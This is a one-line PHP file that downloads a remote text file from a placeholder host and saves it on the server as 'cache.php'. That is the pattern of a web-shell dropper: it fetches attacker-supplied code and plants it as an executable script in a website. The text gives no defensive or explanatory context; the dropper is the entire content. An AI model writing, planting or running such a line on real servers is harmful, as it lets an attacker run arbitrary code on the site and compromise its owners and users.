<?php copy('http://example.invalid/s.txt', 'cache.php'); ?>
